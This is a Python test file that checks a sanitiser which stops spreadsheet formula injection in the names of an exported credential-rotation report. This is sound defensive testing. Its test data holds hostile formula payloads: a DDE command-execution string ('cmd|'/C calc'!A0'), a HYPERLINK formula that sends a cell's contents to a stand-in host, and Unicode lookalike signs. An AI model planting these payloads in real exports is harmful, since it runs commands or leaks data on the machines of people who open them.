"""No name in Tableau becomes a formula, whatever spreadsheet reads the table and however it splits it."""

from __future__ import annotations

import csv
import io
import itertools
import re
import sys
import time
import unicodedata
from random import Random

import pytest

from credential_rotation.rotation.outcomes import Outcome
from credential_rotation.rotation.spreadsheet_cells import harmless_cell
from tests.builders import rotation_report, target

SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫−⁼₌"
BEFORE = ["", " ", "  ", "\t", "\n", "\r", "\r\n", "\u00a0", "\u3000", "\ufeff", "\u200b", "\0", '"', '""', ' " ']
SEPARATORS = [",", ";", "\t", "|", "\n", "\r", "\v", "\f", "\x85", "\u2028"]
FORMULAS = ["cmd|'/C calc'!A0", "SUM(A1:A9)", 'HYPERLINK("http://x.example?"&A1)', "2+5", "1"]


def is_formula(cell: str) -> bool:
    """Whether the first that is no blank, quote or unseen character begins a formula."""
    seen = next((char for char in cell if char != '"' and unicodedata.category(char)[0] not in "ZC"), "")
    return unicodedata.normalize("NFKC", seen).startswith(("=", "+", "-", "@", "−"))


@pytest.mark.parametrize("sign", SIGNS)
def test_what_begins_a_formula_is_made_text_wherever_a_cell_may_begin(sign: str) -> None:
    for before, formula in itertools.product(BEFORE, FORMULAS):
        assert harmless_cell(f"{before}{sign}{formula}") == f"{before}'{sign}{formula}"
        for separator in SEPARATORS:
            name = f"Orders{separator}{before}{sign}{formula}"
            assert harmless_cell(name) == f"Orders{separator}{before}'{sign}{formula}"


def test_every_sign_that_a_spreadsheet_may_take_for_one_of_the_four_is_found() -> None:
    signs = [
        chr(code)
        for code in range(sys.maxunicode + 1)
        if unicodedata.normalize("NFKC", chr(code)).startswith(("=", "+", "-", "@"))
    ]
    assert len(signs) > len(SIGNS)
    assert [harmless_cell(f"{sign}1") for sign in signs] == [f"'{sign}1" for sign in signs]


@pytest.mark.parametrize(
    "name",
    [
        "Profit & Loss",
        "Sales - North",
        "R+D",
        "Growth +5 %",
        "a=b",
        "jane.doe@acme.example",
        "2026-11-24",
        "a, b; c | d",
        'The "real" numbers',
        "'quoted'",
        "(-5)",
        "Sales, by region, by week",
        "https://tableau.acme.example/#/site/acme/workbooks/1?a=1&b=-2",
        "売上ダッシュボード",
        "Growth 🚀",
        "#1",
        "\tindented",
        "",
    ],
)
def test_an_ordinary_name_stays_as_it_is(name: str) -> None:
    assert harmless_cell(name) == name


@pytest.mark.parametrize("value", [0, -1, 1.5, True, None, Outcome.UPDATED])
def test_what_is_no_name_stays_as_it_is(value: object) -> None:
    assert harmless_cell(value) == value


def test_no_spreadsheet_finds_a_formula_in_a_table_of_odd_names() -> None:
    random, letters = Random("odd names"), [*SIGNS, *BEFORE, *SEPARATORS, "'", "A", "1", "(", "cmd", "!", "売"]
    names = ["".join(random.choices(letters, k=random.randint(1, 8))) for _ in range(3000)]
    records = [target(n, content_name=name, project=name, owner=name, username=name) for n, name in enumerate(names)]
    table = rotation_report(*records).as_csv()
    for separator in ",;\t|":
        rows = csv.reader(io.StringIO(table, newline=""), delimiter=separator)
        assert not [cell for row in rows for cell in row if is_formula(cell)]
    # One that cares for no quotes, and splits wherever it may.
    assert not [cell for cell in re.split("[" + "".join(SEPARATORS) + "]", table) if is_formula(cell)]


@pytest.mark.parametrize("char", ["\t", ";", '"', "=", "a"])
def test_a_name_that_is_made_to_take_long_takes_no_time(char: str) -> None:
    began = time.perf_counter()
    harmless_cell(char * 200_000 + "x")
    assert time.perf_counter() - began < 5
